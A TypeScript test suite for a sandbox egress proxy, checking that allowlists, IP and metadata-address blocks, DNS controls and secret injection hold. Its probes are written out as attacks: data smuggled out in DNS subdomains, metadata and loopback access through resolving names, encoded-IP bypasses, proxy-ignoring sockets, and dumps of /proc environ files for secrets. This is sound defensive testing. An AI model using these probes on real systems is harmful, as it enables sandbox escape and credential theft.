/**
 * Threat: a sandbox with allowlisted egress reaches more than its owner
 * allowed — another domain, a raw IP, the host's loopback or the cloud
 * metadata endpoint through a name that resolves there, data smuggled out in
 * DNS queries, or anything at all by ignoring the proxy — or gets hold of a
 * secret the proxy injects for it.
 * Oracle: test hosts in network namespaces (203.0.113.0/24, never routed
 * outside) log every request and connection they get, the test DNS server
 * logs every query, a counting server on the host's loopback counts accepts,
 * and the audit log records each decision. Nothing here contacts anything
 * outside this machine.
 * Twins: the same probes reach the allowed host (the logs and counters
 * work), a host client reaches the servers the sandbox could not, and a
 * sandbox given the secret as a variable does show it to the same probe.
 */
import { createServer, connect, type Server } from 'node:net';
import { once } from 'node:events';
import { createHash } from 'node:crypto';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hasCode } from '@warden/protocol';
import { openAuditLog } from '../../packages/core/src/audit/index.js';
import type { AuditLog } from '../../packages/core/src/audit/types.js';
import { eventually, testRuntime } from '../helpers/host.js';
import { testInternet, type TestInternet } from '../helpers/internet.js';
import { token, useEngine } from './harness.js';

const runtime = testRuntime();
let net: TestInternet | undefined;
let audit: AuditLog | undefined;
let auditDir: string | undefined;
let loopback: { server: Server; port: number; accepted: number } | undefined;

const inet = (): TestInternet => {
  if (!net) throw new Error('the test internet is made in beforeAll');
  return net;
};

beforeAll(async () => {
  auditDir = await mkdtemp(join(tmpdir(), 'warden-egress-audit-'));
  audit = openAuditLog({ file: join(auditDir, 'audit.sqlite'), keyFile: join(auditDir, 'audit.pem') });
  net = await testInternet([{ names: ['allowed.test', 'api.test', 'www.allowed.test'] }, { names: ['other.test'] }], {
    'loopback.test': '127.0.0.1',
    'metadata.test': '169.254.169.254',
    'private.test': '10.20.30.40',
    'mixed.test': '127.0.0.1',
  });
  const srv = createServer((c) => {
    lo.accepted++;
    c.end('pong-host');
  });
  const lo = { server: srv, port: 0, accepted: 0 };
  srv.listen(0, '127.0.0.1');
  await once(srv, 'listening');
  lo.port = (srv.address() as { port: number }).port;
  loopback = lo;
}, 60_000);

// Registered after the internet's beforeAll: the engine's options name its DNS server and CA.
const h = useEngine(() => ({
  ...(net ? { egress: { dnsServers: [net.dnsServer], upstreamCaFile: net.caFile } } : {}),
  ...(audit ? { audit } : {}),
}));

afterAll(async () => {
  loopback?.server.close();
  await net?.[Symbol.asyncDispose]();
  audit?.close();
  if (auditDir) await rm(auditDir, { recursive: true, force: true });
});

/** The sandbox's net.connect events, oldest first. */
function decisions(sandboxId: string): Array<{ outcome?: string; details?: Record<string, unknown> }> {
  return audit!.query({ sandboxId, action: 'net.*', limit: 1000 });
}

/** curl inside the sandbox: prints the body then the status code on its own line; exit status is curl's. */
const curl = (...args: string[]): string[] => ['curl', '-sS', '--max-time', '15', '-w', '\n%{http_code}', ...args];

describe(`egress through the proxy (${runtime})`, () => {
  it('reaches an allowed domain over CONNECT, plain HTTP and SOCKS5, each audited as allowed', async () => {
    await using sbx = await h.create({ network: { mode: 'allowlist', allow: ['allowed.test'] } });
    await sbx.files.write('/tmp/ca.pem', inet().caPem);
    const before = inet().received('allowed.test').length;

    const tls = await sbx.exec(curl('--cacert', '/tmp/ca.pem', 'https://allowed.test/tls'));
    const plain = await sbx.exec(curl('http://allowed.test/plain?q=1'));
    const socks = await sbx.exec(curl('-x', 'socks5h://127.0.0.1:3128', 'http://allowed.test/socks'));

    for (const r of [tls, plain, socks]) {
      expect(r.reason).toBe('exited');
      expect(r.exitCode, r.stderr).toBe(0);
      expect(r.stdout.trim().split('\n').at(-1)).toBe('200');
    }
    expect(JSON.parse(tls.stdout.split('\n')[0]!)).toMatchObject({ server: 'host0', kind: 'https', host: 'allowed.test', url: '/tls' });
    const got = inet().received('allowed.test').slice(before);
    expect(got.map((r) => `${r.kind} ${r.url}`)).toEqual(['https /tls', 'http /plain?q=1', 'http /socks']);
    // The proxy tells processes where it is; nothing else is configured in the sandbox.
    const env = await sbx.exec(['sh', '-c', 'echo "$HTTPS_PROXY $HTTP_PROXY $ALL_PROXY $NO_PROXY"']);
    expect(env.stdout).toBe('http://127.0.0.1:3128 http://127.0.0.1:3128 socks5h://127.0.0.1:3128 localhost,127.0.0.1,::1\n');
    await eventually(() => decisions(sbx.id).filter((e) => e.outcome === 'allowed').length === 3, 5000, 'three allowed decisions');
    const allowed = decisions(sbx.id).filter((e) => e.outcome === 'allowed');
    expect(allowed.map((e) => [e.details?.protocol, e.details?.host, e.details?.port, e.details?.address])).toEqual([
      ['connect', 'allowed.test', 443, inet().address('allowed.test')],
      ['http', 'allowed.test', 80, inet().address('allowed.test')],
      ['socks5', 'allowed.test', 80, inet().address('allowed.test')],
    ]);
  });

  it('refuses other domains on every protocol before resolving them: no request, no DNS query', async () => {
    await using sbx = await h.create({ network: { mode: 'allowlist', allow: ['allowed.test'] } });
    const secret = token('exfil');
    const before = inet().received('other.test').length;

    const tls = await sbx.exec(curl('-k', 'https://other.test/'));
    const plain = await sbx.exec(curl(`http://${secret}.other.test/`));
    const socks = await sbx.exec(curl('-x', 'socks5h://127.0.0.1:3128', `http://${secret}.other.test/`));
    const sub = await sbx.exec(curl('http://www.allowed.test/')); // an exact entry does not cover subdomains
    const port = await sbx.exec(curl('http://allowed.test:9000/')); // nor other ports

    expect(tls.exitCode).not.toBe(0); // CONNECT answered 403
    expect(tls.stderr).toMatch(/403/);
    expect(plain.stdout).toMatch(/not-allowed[\s\S]*\n403$/);
    expect(socks.exitCode).not.toBe(0);
    expect(sub.stdout).toMatch(/\n403$/);
    expect(port.stdout).toMatch(/\n403$/);
    expect(inet().received('other.test').slice(before)).toEqual([]);
    expect(inet().queries().filter((q) => q.includes(secret) || q === 'other.test' || q === 'www.allowed.test')).toEqual([]);
    await eventually(() => decisions(sbx.id).filter((e) => e.outcome === 'denied').length === 5, 5000, 'five denials');
    expect(decisions(sbx.id).every((e) => e.outcome === 'denied' && e.details?.reason === 'not-allowed')).toBe(true);
  });

  it('twin: allowing the domain lets the same probes through and queries DNS for it', async () => {
    await using sbx = await h.create({ network: { mode: 'allowlist', allow: ['other.test', '*.allowed.test'] } });
    const before = inet().received('other.test').length;
    const plain = await sbx.exec(curl('http://other.test/'));
    const sub = await sbx.exec(curl('http://www.allowed.test/'));
    expect(plain.stdout.trim().split('\n').at(-1)).toBe('200');
    expect(sub.stdout.trim().split('\n').at(-1)).toBe('200');
    expect(inet().received('other.test').length).toBe(before + 1);
    expect(inet().queries()).toContain('other.test');
  });

  it('refuses raw IP destinations on every protocol, even the allowed host’s address', async () => {
    await using sbx = await h.create({ network: { mode: 'allowlist', allow: ['*:*'] } });
    const ip = inet().address('allowed.test');
    const before = inet().received('allowed.test').length;

    const plain = await sbx.exec(curl(`http://${ip}/`));
    const tls = await sbx.exec(curl('-k', `https://${ip}/`));
    const socks4 = await sbx.exec(curl('-x', 'socks5://127.0.0.1:3128', `http://${ip}/`)); // curl sends the address (ATYP 1)
    const decimal = await sbx.exec(curl(`http://${ip.split('.').reduce((n, o) => n * 256 + Number(o), 0)}/`));
    const v6 = await sbx.exec(curl('-g', 'http://[::ffff:7f00:1]/'));

    expect(plain.stdout).toMatch(/ip-literal[\s\S]*\n403$/);
    expect(tls.exitCode).not.toBe(0);
    expect(socks4.exitCode).not.toBe(0);
    expect(decimal.stdout).toMatch(/\n403$/);
    expect(v6.stdout).toMatch(/\n403$/);
    expect(inet().received('allowed.test').slice(before)).toEqual([]);
    await eventually(() => decisions(sbx.id).length >= 5, 5000, 'five decisions');
    // curl may turn the decimal spelling into dotted form itself; either way it is refused as an address.
    expect(decisions(sbx.id).map((e) => e.details?.reason)).toEqual(['ip-literal', 'ip-literal', 'ip-literal', expect.stringMatching(/^(ip-literal|bad-name)$/), 'ip-literal']);
  });

  it('refuses allowed names that resolve to loopback, metadata or private addresses; the host loopback server stays untouched', async () => {
    const lo = loopback!;
    await using sbx = await h.create({ network: { mode: 'allowlist', allow: ['loopback.test:*', 'metadata.test', 'private.test', 'localhost:*'] } });
    const r = await sbx.exec([
      'sh',
      '-c',
      // --noproxy '': through the proxy even for localhost (NO_PROXY would send it to the sandbox's own loopback).
      `for u in http://loopback.test:${lo.port}/ http://metadata.test/latest/meta-data/ http://private.test/ http://localhost:${lo.port}/; do curl -sS --noproxy '' --max-time 10 -w 'CODE=%{http_code}\\n' "$u"; done`,
    ]);
    const codes = [...r.stdout.matchAll(/CODE=(\d+)/g)].map((m) => m[1]);
    expect(codes).toEqual(['403', '403', '403', '403']);
    expect(r.stdout).toMatch(/forbidden-address:loopback/);
    expect(r.stdout).toMatch(/forbidden-address:metadata/);
    expect(r.stdout).toMatch(/forbidden-address:private/);
    expect(lo.accepted).toBe(0);
    await eventually(() => decisions(sbx.id).length === 4, 5000, 'four decisions');
    expect(decisions(sbx.id).map((e) => [e.outcome, e.details?.reason])).toEqual([
      ['denied', 'forbidden-address:loopback'],
      ['denied', 'forbidden-address:metadata'],
      ['denied', 'forbidden-address:private'],
      ['denied', 'forbidden-address:loopback'],
    ]);
    // Twin: the counting server does count a connection from the host itself.
    const c = connect(lo.port, '127.0.0.1').resume();
    await once(c, 'close');
    expect(lo.accepted).toBe(1);
    lo.accepted = 0;
  });

  it("refuses a name that resolves to one of the host's own (public) addresses: its services are the host's", async () => {
    const self = inet().hostSide('allowed.test'); // 203.0.113.x: not private, but this machine's
    inet().addRecord('self.test', self);
    let accepted = 0;
    const srv = createServer((c) => {
      accepted++;
      c.end('pong-host');
    });
    srv.listen(0, '0.0.0.0');
    await once(srv, 'listening');
    const port = (srv.address() as { port: number }).port;
    try {
      await using sbx = await h.create({ network: { mode: 'allowlist', allow: ['self.test:*'] } });
      const r = await sbx.exec(curl(`http://self.test:${port}/`));
      expect(r.stdout).toMatch(/forbidden-address:host[\s\S]*\n403$/);
      expect(accepted).toBe(0);
      // Twin: the host reaches that server on that address.
      const c = connect(port, self).resume();
      await once(c, 'close');
      expect(accepted).toBe(1);
    } finally {
      srv.close();
    }
  });

  it('gives programs that ignore the proxy no network: direct TCP, UDP DNS, getaddrinfo all fail', async () => {
    await using sbx = await h.create({ network: { mode: 'allowlist', allow: ['allowed.test'] } });
    const ip = inet().address('allowed.test');
    const dnsPort = inet().dnsServer.split(':')[1]!;
    const before = { tcp: inet().received('allowed.test').filter((x) => x.kind === 'tcp').length, queries: inet().queries().length };
    const marker = token('tunnel');
    const probe = `
import socket
def tcp(host, port):
    try:
        socket.create_connection((host, port), timeout=3).recv(16); return 'connected'
    except OSError as e: return type(e).__name__ + ':' + str(e.errno)
def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + b''.join(bytes([len(p)]) + p.encode() for p in '${marker}.other.test'.split('.')) + b'\\x00\\x00\\x01\\x00\\x01'
    try:
        s.sendto(q, (host, port)); s.recv(512); return 'answered'
    except OSError as e: return type(e).__name__
def name(n):
    try:
        socket.getaddrinfo(n, 80); return 'resolved'
    except OSError as e: return 'unresolved'
import time
t = time.time()
out = [tcp('${ip}', 9000), tcp('${ip}', 80), udp('${ip}', 53), udp('127.0.0.1', ${dnsPort}), name('allowed.test'), name('${marker}.other.test')]
print(' '.join(out), round(time.time() - t, 1))
`;
    const r = await sbx.exec(['python3', '-c', probe]);
    expect(r.exitCode, r.stderr).toBe(0);
    const [tcp1, tcp2, udp1, udp2, n1, n2, seconds] = r.stdout.trim().split(' ');
    expect(Number(seconds)).toBeLessThan(20);
    // Only lo exists: ENETUNREACH from Linux, EHOSTUNREACH from gVisor's network stack.
    expect(tcp1).toBe(runtime === 'gvisor' ? 'OSError:113' : 'OSError:101');
    expect(tcp2).not.toBe('connected');
    expect(udp1).not.toBe('answered');
    expect(udp2).not.toBe('answered'); // the sandbox's own loopback, not the host's
    expect([n1, n2]).toEqual(['unresolved', 'unresolved']);
    // A client that ignores the proxy variables (curl --noproxy) gets nowhere either.
    const direct = await sbx.exec(curl('--noproxy', '*', 'http://allowed.test/'));
    expect(direct.exitCode).not.toBe(0);
    expect(inet().received('allowed.test').filter((x) => x.kind === 'tcp').length).toBe(before.tcp);
    expect(inet().queries().slice(before.queries).filter((q) => q.includes(marker))).toEqual([]);
    // Twin: the host reaches the very same port, which counts it.
    const c = connect(9000, ip).resume();
    await once(c, 'close');
    await eventually(() => inet().received('allowed.test').filter((x) => x.kind === 'tcp').length === before.tcp + 1, 5000, 'the host connection to be logged');
  });

  it('mode none (the default) has no proxy at all: the relay closes every connection', async () => {
    await using sbx = await h.create();
    const r = await sbx.exec(curl('-x', 'http://127.0.0.1:3128', 'http://allowed.test/'));
    expect(r.exitCode).not.toBe(0);
    expect((await sbx.exec(['sh', '-c', 'env | grep -ci proxy || true'])).stdout.trim()).toBe('0');
    expect(sbx.network.policy).toEqual({ mode: 'none', allow: [], inject: [] });
    expect(decisions(sbx.id)).toEqual([]);
  });

  it('lets the owner open, narrow and close egress at run time; a narrowed policy cuts open tunnels', async () => {
    await using sbx = await h.create();
    expect((await sbx.exec(curl('http://allowed.test/'))).exitCode).not.toBe(0);

    await sbx.network.update({ mode: 'allowlist', allow: ['allowed.test'] }, { actor: 'owner' });
    expect((await sbx.exec(curl('http://allowed.test/'))).stdout.trim().split('\n').at(-1)).toBe('200');

    // A tunnel held open on a slow response.
    let out = '';
    const held = sbx.spawn(
      [
        'python3',
        '-c',
        `
import socket
s = socket.create_connection(('127.0.0.1', 3128), timeout=30)
s.sendall(b'CONNECT allowed.test:80 HTTP/1.1\\r\\nHost: allowed.test:80\\r\\n\\r\\n')
print(s.recv(4096).split(b'\\r\\n')[0].decode(), flush=True)
s.sendall(b'GET /slow HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')
got = b''
while b'start' not in got:
    got += s.recv(4096)
print('got', True, flush=True)
try:
    while True:
        d = s.recv(4096)
        if not d:
            print('closed', flush=True); break
except OSError as e:
    print('closed', type(e).__name__, flush=True)
`,
      ],
      { onStdout: (b) => (out += b.toString()) },
    );
    await eventually(() => out.includes('got True'), 15_000, 'the tunnel to carry a response');
    expect(out).toContain('HTTP/1.1 200 Connection Established');

    await sbx.network.update({ mode: 'allowlist', allow: ['other.test'] }, { actor: 'owner' });
    await eventually(() => out.includes('closed'), 10_000, 'the tunnel to be cut');
    expect((await held.wait()).exitCode).toBe(0);
    expect((await sbx.exec(curl('http://allowed.test/'))).stdout.trim().split('\n').at(-1)).toBe('403');

    await sbx.network.update({ mode: 'none' }, { actor: 'owner' });
    expect((await sbx.exec(curl('-x', 'http://127.0.0.1:3128', 'http://other.test/'))).exitCode).not.toBe(0);
    const events = audit!.query({ sandboxId: sbx.id, action: 'network.update' });
    expect(events.map((e) => [e.actor, (e.details as { mode: string }).mode])).toEqual([
      ['owner', 'allowlist'],
      ['owner', 'allowlist'],
      ['owner', 'none'],
    ]);
    expect(audit!.query({ sandboxId: sbx.id, action: 'net.revoke' }).map((e) => (e.details as { host: string }).host)).toEqual(['allowed.test']);
  }, 60_000);

  it('injects a header for an allowed domain without the secret ever entering the sandbox', async () => {
    const secret = token('sk-live');
    await using sbx = await h.create(
      { network: { mode: 'allowlist', allow: ['api.test', 'allowed.test'], inject: [{ domain: 'api.test', secret: 'API_TOKEN' }] } },
      { secrets: { API_TOKEN: secret } },
    );
    const before = inet().received('api.test').length;
    // The sandbox trusts the proxy's CA through SSL_CERT_FILE/CURL_CA_BUNDLE; it even tries to send its own header.
    const r = await sbx.exec(curl('-H', 'Authorization: Bearer forged', 'https://api.test/v1/models'));
    expect(r.exitCode, r.stderr).toBe(0);
    const body = JSON.parse(r.stdout.split('\n')[0]!) as { auth: string; host: string; url: string };
    expect(body).toMatchObject({ host: 'api.test', url: '/v1/models' });
    expect(body.auth).toBe(createHash('sha256').update(`Bearer ${secret}`).digest('hex'));
    const got = inet().received('api.test').slice(before);
    expect(got.map((x) => x.authorization)).toEqual([`Bearer ${secret}`]);

    // No trace of it inside: every process's environment, the egress directory, /tmp and the workspace.
    const dump = await sbx.exec(['sh', '-c', 'cat /proc/[0-9]*/environ; cat /.warden/net/*.pem; grep -r . /tmp /workspace; env'], { maxOutputBytes: 64 * 1024 * 1024 });
    expect(dump.stdout.length).toBeGreaterThan(1000);
    expect(dump.stdout).not.toContain(secret);
    expect(dump.stdout).not.toContain('[MASKED]'); // the output masker would have hidden it: it was not there to hide
    // Twin: another domain through the same proxy gets no header.
    const plain = await sbx.exec(curl('-k', 'https://allowed.test/'));
    expect(JSON.parse(plain.stdout.split('\n')[0]!)).toMatchObject({ auth: null });
    await eventually(() => decisions(sbx.id).some((e) => e.details?.injected === 'authorization'), 5000, 'the injection to be audited');
    expect(JSON.stringify(audit!.query({ sandboxId: sbx.id }))).not.toContain(secret);
  });

  it('twin: the same probe shows a secret given as a variable (masked in the output)', async () => {
    const secret = token('sk-live');
    await using sbx = await h.create({ secrets: [{ name: 'API_TOKEN' }] }, { secrets: { API_TOKEN: secret } });
    const dump = await sbx.exec(['sh', '-c', 'cat /proc/[0-9]*/environ; env']);
    expect(dump.stdout).not.toContain(secret);
    expect(dump.stdout).toContain('API_TOKEN=[MASKED]');
  });

  it("refuses an injection for a domain the secret is not bound to, or a domain outside the allowlist", async () => {
    const err = await h
      .create({ network: { mode: 'allowlist', allow: ['other.test'], inject: [{ domain: 'other.test', secret: 'K' }] } }, { secrets: { K: { value: 'bound-secret', domains: ['api.test'] } } })
      .catch((e: unknown) => e);
    expect(hasCode(err, 'E_SECRET_FORBIDDEN')).toBe(true);
    const outside = await h.create({ network: { mode: 'allowlist', allow: ['allowed.test'], inject: [{ domain: 'api.test', secret: 'K' }] } }, { secrets: { K: 'x-secret' } }).catch((e: unknown) => e);
    expect(hasCode(outside, 'E_INVALID_SPEC')).toBe(true);
  });

  it('keeps the proxy socket out of reach of other host users and gone with the sandbox', async () => {
    const sbx = await h.create({ network: { mode: 'allowlist', allow: ['allowed.test'] } });
    const dir = `${h.engine.stateDir}/net/${sbx.id}`;
    const st = await import('node:fs/promises').then((fs) => fs.stat(`${dir}/proxy.sock`));
    expect(st.isSocket()).toBe(true);
    expect(st.mode & 0o777).toBe(0o600);
    expect(st.uid).toBe(sbx.info().hostUid);
    // The sandbox sees it read-only.
    const rm = await sbx.exec(['sh', '-c', 'rm -f /.warden/net/proxy.sock; touch /.warden/net/x']);
    expect(rm.exitCode).not.toBe(0);
    await sbx.kill();
    await expect(readFile(`${dir}/proxy.sock`)).rejects.toMatchObject({ code: 'ENOENT' });
  });
});
